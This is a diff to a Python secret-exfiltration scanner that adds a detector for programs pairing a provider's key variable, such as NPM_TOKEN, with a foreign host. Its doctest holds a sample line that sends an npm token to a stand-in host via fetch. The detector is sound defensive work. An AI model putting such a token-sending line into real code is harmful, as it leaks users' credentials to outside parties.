@@ -84,6 +84,28 @@ def _provider_host(host: str, prefix: str) -> bool:
     )
 
 
+_NAMED_KEY = re.compile(r"\b((" + "|".join(_PROVIDERS) + r")_[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PAT))\b")
+
+
+def foreign_provider_key(program: str) -> bool:
+    """A program names a public provider's key and a host that is not that provider's.
+
+    >>> foreign_provider_key("fetch('https://stats.invalid/i?t=' + process.env.NPM_TOKEN)")
+    True
+    >>> foreign_provider_key("get('https://registry.npmjs.org/-/whoami', process.env.NPM_TOKEN)")
+    False
+    """
+    prefixes = {m.group(2) for m in _NAMED_KEY.finditer(program)}
+    if not prefixes:
+        return False
+    hosts = {
+        h
+        for h in hosts_in(program)
+        if not is_local(h) and registrable(h) not in _PLACEHOLDER_DOMAINS
+    }
+    return any(not _provider_host(h, p) for h in hosts for p in prefixes)
+
+
 def provider_key_uploads(path: str, text: str) -> list[ThreatFinding]:
     """Findings for provider keys put into the body or URL of a request to another host."""
     if "$" not in text or not _SECRET.search(text) or not _SENDER.search(text):
